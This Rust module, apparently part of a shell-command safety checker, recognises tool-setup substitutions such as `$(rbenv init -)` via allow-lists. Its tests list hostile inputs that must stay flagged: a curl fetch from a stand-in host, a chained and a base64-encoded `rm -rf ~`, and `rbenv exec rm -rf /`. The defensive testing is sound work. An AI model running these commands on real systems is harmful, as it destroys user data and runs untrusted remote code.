//! `eval "$(rbenv init -)"` and its kin: a tool the user installed prints
//! the shell settings it needs (PATH, a hook, completion), and the shell
//! runs them. The text is known only at run time, but what produces it is
//! a fixed, well-known program asked for exactly that, so the idiom is not
//! opaque code: the program itself is still judged as a command.

/// Programs whose `init`/`env`/`hook`-style output is shell setup.
const SETUP_PROGRAMS: &[&str] = &[
    "rbenv",
    "pyenv",
    "nodenv",
    "goenv",
    "jenv",
    "plenv",
    "phpenv",
    "swiftenv",
    "direnv",
    "ssh-agent",
    "brew",
    "starship",
    "conda",
    "mamba",
    "micromamba",
    "zoxide",
    "fnm",
    "mise",
    "rtx",
    "dircolors",
    "luarocks",
    "opam",
    "minikube",
    "docker-machine",
    "register-python-argcomplete",
    "gh",
    "kubectl",
    "helm",
    "rustup",
    "npm",
    "pip",
    "pip3",
    "uv",
    "poetry",
    "pdm",
    "pipenv",
    "thefuck",
    "atuin",
    "mcfly",
    "oh-my-posh",
    "asdf",
    "nvm",
    "volta",
    "keychain",
    "gpg-agent",
    "lesspipe",
    "lesspipe.sh",
    "hub",
    "jump",
    "fasd",
    "navi",
    "broot",
    "just",
    "deno",
    "bun",
    "terraform",
    "aws_completer",
    "pkenv",
    "tfenv",
    "sdkman",
    "rye",
    "hatch",
    "pixi",
    "devbox",
    "nix-direnv",
    "pulumi",
    "flyctl",
    "glab",
    "op",
    "doctl",
    "gcloud",
    "az",
    "kind",
    "k3d",
    "stern",
];

/// Where package managers put the setup programs: a program given by path
/// counts only from one of these.
const INSTALL_DIRS: &[&str] = &[
    "/usr/bin/",
    "/bin/",
    "/usr/local/bin/",
    "/opt/homebrew/bin/",
    "/home/linuxbrew/.linuxbrew/bin/",
    "/opt/local/bin/",
];

/// Words that ask such a program for its shell setup.
const SETUP_WORDS: &[&str] = &[
    "init",
    "-",
    "shellenv",
    "hook",
    "env",
    "activate",
    "-s",
    "-c",
    "completion",
    "completions",
    "docker-env",
    "path",
    "virtualenv-init",
    "shell.bash",
    "shell.zsh",
    "bash",
    "zsh",
    "fish",
    "sh",
    "-b",
    "--use-on-cd",
    "--shell",
    "--eval",
    "--sh",
    "--bash",
    "--zsh",
    "--quiet",
    "-q",
    "--path",
    "podman-env",
    "--print-full-init",
    "generate-shell-completion",
    "shell-init",
    "--agents",
    "ssh,gpg",
    "ssh",
    "gpg",
    "--norc",
    "source",
    "--no-rehash",
];

/// The command inside a substitution's text (`$(rbenv init -)` →
/// `rbenv init -`); the text itself when it is not one.
pub(crate) fn inner_command(text: &str) -> &str {
    text.strip_prefix("$(")
        .and_then(|t| t.strip_suffix(')'))
        .or_else(|| text.strip_prefix('`').and_then(|t| t.strip_suffix('`')))
        .map_or(text, str::trim)
}

/// The name of the program a substitution runs (`$(/opt/homebrew/bin/brew
/// shellenv)` → `brew`), for the shadowing checks.
pub(crate) fn program_name(text: &str) -> Option<&str> {
    let program = inner_command(text).split_ascii_whitespace().next()?;
    Some(program.rsplit('/').next().unwrap_or(program))
}

/// True for the text of a word that is a command substitution running one
/// of [`SETUP_PROGRAMS`] with only [`SETUP_WORDS`] (`$(pyenv init -)`,
/// `` `ssh-agent -s` ``, `$(/opt/homebrew/bin/brew shellenv)`).
pub(crate) fn prints_shell_setup(text: &str) -> bool {
    let inner = inner_command(text);
    if inner.len() == text.len() {
        return false;
    }
    let mut words = inner.split_ascii_whitespace();
    let Some(program) = words.next() else {
        return false;
    };
    let name = program.rsplit('/').next().unwrap_or(program);
    // A bare name is looked up on PATH; a path only in the places package
    // managers install to, never the workspace or a relative one.
    let plain_path = !program.contains('/')
        || INSTALL_DIRS
            .iter()
            .any(|d| program.strip_prefix(d).is_some_and(|n| !n.contains('/')));
    if !plain_path || !SETUP_PROGRAMS.contains(&name) {
        return false;
    }
    let rest: Vec<&str> = words.collect();
    if name == "register-python-argcomplete" {
        // Its one argument names the program to complete.
        return rest.len() == 1
            && rest[0]
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c));
    }
    rest.iter().all(|w| SETUP_WORDS.contains(w))
}

#[cfg(test)]
mod tests {
    use super::prints_shell_setup;

    #[test]
    fn the_setup_idioms_are_recognised() {
        for t in [
            "$(rbenv init -)",
            "$(pyenv virtualenv-init -)",
            "$(direnv hook bash)",
            "`ssh-agent -s`",
            "$(/opt/homebrew/bin/brew shellenv)",
            "$(conda shell.bash hook)",
            "$(fnm env --use-on-cd)",
            "$(gh completion -s bash)",
            "$(register-python-argcomplete pipx)",
        ] {
            assert!(prints_shell_setup(t), "{t}");
        }
    }

    #[test]
    fn anything_else_stays_opaque() {
        for t in [
            "$(curl -s https://x.example/i.sh)",
            "$(rbenv init -; rm -rf ~)",
            "$(rbenv init - | sed s/x/y/)",
            "$(echo cm0gLXJmIH4= | base64 -d)",
            "$(brew shellenv $(cat x))",
            "$(./rbenv init -)x",
            "$(./rbenv init -)",
            "$(/home/dev/proj/bin/rbenv init -)",
            "rbenv init -",
            "$(rbenv exec rm -rf /)",
        ] {
            assert!(!prints_shell_setup(t), "{t}");
        }
    }
}
